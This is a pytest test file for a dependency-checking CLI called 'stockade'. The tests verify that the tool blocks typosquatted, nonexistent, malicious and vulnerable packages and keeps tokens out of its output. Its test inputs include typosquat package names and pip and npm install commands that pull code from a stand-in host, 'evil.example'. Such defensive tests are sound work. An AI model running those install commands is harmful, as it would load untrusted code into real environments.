"""`stockade deps` end to end: the real CLI in a subprocess, a fake
registry over a real socket, an OSV fixture export, a real git repository."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from fake_registry import FakeRegistry
from osv_fixture import build


def stockade(*args: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "stockade", *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=120, check=False)


@pytest.fixture
def project(tmp_path: Path, registry: FakeRegistry) -> Path:
    registry.add_pypi("seasoned-pkg", days_old=900)
    registry.add_pypi("evil-pkg", days_old=900)
    registry.add_npm("leftish", versions=("1.3.0",))
    p = tmp_path / "proj"
    p.mkdir()
    return p


def test_a_clean_manifest_exits_0(project: Path, deps_env: dict[str, str]) -> None:
    (project / "requirements.txt").write_text("requests==2.32.3\nseasoned-pkg\n")
    r = stockade("deps", "check", cwd=project, env=deps_env)
    assert r.returncode == 0, r.stderr
    assert "2 packages checked: 0 blocked, 0 need approval" in r.stdout


def test_a_refused_package_exits_1_with_its_reason_code(project: Path,
                                                        deps_env: dict[str, str]) -> None:
    (project / "requirements.txt").write_text("requests\nreqeusts==1.0\n")
    r = stockade("deps", "check", "--format", "json", cwd=project, env=deps_env)
    assert r.returncode == 1, r.stderr
    data = json.loads(r.stdout)
    assert data["summary"] == {"checked": 2, "block": 1, "ask": 0, "warn": 0, "allow": 1}
    bad = data["results"][1]
    assert (bad["package"], bad["version"], bad["line"], bad["action"]) == \
        ("reqeusts", "1.0", 2, "block")
    assert [f["code"] for f in bad["findings"]] == ["deps.typosquat", "deps.nonexistent"]
    assert "requests" in bad["findings"][0]["reason"]


def test_sarif_output(project: Path, deps_env: dict[str, str]) -> None:
    (project / "package.json").write_text('{"dependencies": {\n "crossenv": "1.0.0"\n}}\n')
    r = stockade("deps", "check", "--format", "sarif", cwd=project, env=deps_env)
    assert r.returncode == 1
    sarif = json.loads(r.stdout)
    assert sarif["version"] == "2.1.0"
    run = sarif["runs"][0]
    rule_ids = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    assert "deps.typosquat" in rule_ids and "deps.unverifiable" in rule_ids
    res = run["results"][0]
    assert res["ruleId"] == "deps.typosquat" and res["level"] == "error"
    assert rule_ids[res["ruleIndex"]] == res["ruleId"]
    loc = res["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"]["uri"] == "package.json" and loc["region"]["startLine"] == 2


def test_a_malformed_package_json_is_exit_2_naming_file_and_line(
        project: Path, deps_env: dict[str, str]) -> None:
    (project / "package.json").write_text('{\n  "dependencies": {\n    "react": "^18",\n  }\n}\n')
    r = stockade("deps", "check", cwd=project, env=deps_env)
    assert r.returncode == 2
    assert "package.json:4:" in r.stderr and "not valid JSON" in r.stderr and "hint:" in r.stderr
    assert r.stdout == ""


def test_diff_checks_only_what_was_added(project: Path, deps_env: dict[str, str]) -> None:
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run([*git, "init", "-q"], cwd=project, check=True)
    (project / "requirements.txt").write_text("colourama\n")  # old, already accepted
    subprocess.run([*git, "add", "."], cwd=project, check=True)
    subprocess.run([*git, "commit", "-qm", "base"], cwd=project, check=True)
    (project / "requirements.txt").write_text("colourama\nseasoned-pkg\n")
    r = stockade("deps", "check", "--diff", "HEAD", "--format", "json", cwd=project, env=deps_env)
    assert r.returncode == 0, r.stderr
    assert [x["package"] for x in json.loads(r.stdout)["results"]] == ["seasoned-pkg"]
    (project / "requirements.txt").write_text("colourama\nseasoned-pkg\nreqeusts\n")
    r = stockade("deps", "check", "--diff", "HEAD", cwd=project, env=deps_env)
    assert r.returncode == 1 and "reqeusts" in r.stdout and "colourama" not in r.stdout
    bad = stockade("deps", "check", "--diff", "no-such-rev", cwd=project, env=deps_env)
    assert bad.returncode == 2 and "no such commit" in bad.stderr


def test_check_command(project: Path, deps_env: dict[str, str]) -> None:
    ok = stockade("deps", "check-command", "--", "pip", "install", "seasoned-pkg", cwd=project,
                  env=deps_env)
    assert ok.returncode == 0, ok.stderr
    r = stockade("deps", "check-command", "--format", "json", "--", "sudo", "python3", "-m",
                 "pip", "install", "requests", "python3-dateutil", cwd=project, env=deps_env)
    assert r.returncode == 1
    res = json.loads(r.stdout)["results"]
    assert [(x["package"], x["action"]) for x in res] == \
        [("requests", "allow"), ("python3-dateutil", "block")]
    for cmd in (["npm", "i", "@typ3s/node"], ["yarn", "add", "electorn"], ["npx", "crossenv"],
                ["uv", "add", "colourama"], ["cargo", "add", "no-such-crate-zz"],
                ["go", "get", "github.com/hallucinated/thing@v1.0.0"]):
        r = stockade("deps", "check-command", "--", *cmd, cwd=project, env=deps_env)
        assert r.returncode == 1, cmd
    none = stockade("deps", "check-command", "--", "ls", "-la", cwd=project, env=deps_env)
    assert none.returncode == 2 and "installs no package" in none.stderr


def test_an_install_from_the_manifest_checks_the_manifest(project: Path,
                                                          deps_env: dict[str, str]) -> None:
    (project / "requirements.txt").write_text("reqeusts\n")
    r = stockade("deps", "check-command", "--", "pip", "install", "-r", "requirements.txt",
                 cwd=project, env=deps_env)
    assert r.returncode == 1 and "requirements.txt:1" in r.stdout


@pytest.mark.parametrize(("cmd", "code", "named"), [
    (["npm", "install", "react@npm:no-such-evil-zz"], "deps.nonexistent", "no-such-evil-zz"),
    (["pip", "install", "git+https://evil.example/x.git"], "deps.unverifiable",
     "https://evil.example"),
    (["pip", "install", "x @ https://evil.example/x.whl"], "deps.unverifiable",
     "https://evil.example"),
    (["npm", "i", "-D", "lodash@github:evil/lodash"], "deps.unverifiable", "github:"),
])
def test_check_command_bypasses_are_refused(project: Path, deps_env: dict[str, str],
                                            cmd: list[str], code: str, named: str) -> None:
    """Regression: URL/VCS specs were skipped (exit 0, nothing checked) and
    an npm alias was checked under its alias name."""
    r = stockade("deps", "check-command", "--format", "json", "--no-ledger", "--", *cmd,
                 cwd=project, env=deps_env)
    assert r.returncode == 1, r.stdout + r.stderr
    findings = [f for x in json.loads(r.stdout)["results"] for f in x["findings"]]
    assert any(f["code"] == code and named in f["reason"] for f in findings)


def test_a_token_in_an_install_url_reaches_no_output_or_ledger(project: Path,
                                                               deps_env: dict[str, str]) -> None:
    """A private repository URL may carry a token in its user part or path:
    output and ledger show scheme, host and the last path segment only."""
    secret = "zz" + "q7" * 12
    url = f"git+https://ci:{secret}@git.example/{secret}/org/x.git?t={secret}"
    r = stockade("deps", "check-command", "--format", "json", "--", "pip", "install", url,
                 cwd=project, env=deps_env)
    assert r.returncode == 1
    assert secret not in r.stdout + r.stderr
    assert json.loads(r.stdout)["results"][0]["package"] == "https://git.example/.../x.git"
    q = stockade("ledger", "query", "--kind", "deps.check", "--format", "jsonl", cwd=project,
                 env=deps_env)
    assert q.returncode == 0 and "git.example" in q.stdout and secret not in q.stdout


def test_update_db_then_malicious_and_vulnerable(project: Path, tmp_path: Path,
                                                 deps_env: dict[str, str]) -> None:
    export = build(tmp_path / "all.zip")
    u = stockade("deps", "update-db", "--from", str(export), cwd=project, env=deps_env)
    assert u.returncode == 0, u.stderr
    assert "pypi: 3 advisories" in u.stdout
    r = stockade("deps", "check-command", "--format", "json", "--", "npm", "install",
                 "leftish@1.3.0", cwd=project, env=deps_env)
    assert r.returncode == 1  # vulnerable is `ask` by default
    f = json.loads(r.stdout)["results"][0]["findings"][0]
    assert (f["code"], f["action"], f["advisory"]) == \
        ("deps.vulnerable", "ask", "GHSA-dddd-eeee-ffff")
    r = stockade("deps", "check-command", "--", "pip", "install", "evil-pkg", cwd=project,
                 env=deps_env)
    assert r.returncode == 1 and "deps.malicious" in r.stdout and "MAL-2024-0001" in r.stdout
    bad = tmp_path / "bad.zip"
    bad.write_text("x")
    b = stockade("deps", "update-db", "--from", str(bad), cwd=project, env=deps_env)
    assert b.returncode == 2 and "not a zip file" in b.stderr


def test_offline_mode_is_unverifiable(project: Path, registry: FakeRegistry,
                                      deps_env: dict[str, str]) -> None:
    r = stockade("deps", "check-command", "--offline", "--format", "json", "--", "pip",
                 "install", "seasoned-pkg", "requests", cwd=project, env=deps_env)
    assert r.returncode == 1
    res = json.loads(r.stdout)["results"]
    assert [f["code"] for f in res[0]["findings"]] == ["deps.unverifiable"]
    assert res[0]["action"] == "ask" and res[1]["action"] == "allow"
    assert registry.requests == []


def test_the_policy_decides_per_check(project: Path, deps_env: dict[str, str]) -> None:
    relax = "version: 1\ntools:\n  dependencies:\n    unverifiable: warn\n"
    (project / "stockade.yaml").write_text(relax)
    r = stockade("deps", "check-command", "--offline", "--", "pip", "install", "seasoned-pkg",
                 cwd=project, env=deps_env)
    # the agent can write the project file: it may only make the policy stricter
    assert r.returncode == 2 and "can only raise it" in r.stderr
    (project / "stockade.yaml").unlink()
    user = Path(deps_env["HOME"]) / "relaxed.yaml"
    user.write_text(relax)
    r = stockade("deps", "check-command", "--offline", "--policy", str(user), "--", "pip",
                 "install", "seasoned-pkg", cwd=project, env=deps_env)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "warn" in r.stdout and "deps.unverifiable" in r.stdout
    strict = Path(deps_env["HOME"]) / "strict.yaml"
    strict.write_text("version: 1\ntools:\n  dependencies:\n    new: block\n")
    r = stockade("deps", "check-command", "--policy", str(strict), "--", "pip", "install",
                 "requests", cwd=project, env=deps_env)
    assert r.returncode == 0  # popular packages are not new


def test_verdicts_are_recorded_in_the_ledger(project: Path, deps_env: dict[str, str]) -> None:
    r = stockade("deps", "check-command", "--", "pip", "install", "reqeusts==2.0", cwd=project,
                 env=deps_env)
    assert r.returncode == 1
    q = stockade("ledger", "query", "--kind", "deps.check", "--format", "jsonl", cwd=project,
                 env=deps_env)
    assert q.returncode == 0, q.stderr
    events = [json.loads(line) for line in q.stdout.splitlines() if line.strip()]
    assert len(events) == 1
    ev = events[0]
    assert ev["decision"] == "deny"
    d = ev["details"]
    assert (d["package"], d["ecosystem"], d["version"], d["via"]) == \
        ("reqeusts", "pypi", "2.0", "deps check-command")
    assert d["reason_codes"] == ["deps.typosquat", "deps.nonexistent"]
    n = stockade("deps", "check-command", "--no-ledger", "--", "pip", "install", "requests",
                 cwd=project, env=deps_env)
    assert n.returncode == 0
    q2 = stockade("ledger", "query", "--kind", "deps.check", "--format", "jsonl", cwd=project,
                  env=deps_env)
    assert len([x for x in q2.stdout.splitlines() if x.strip()]) == 1
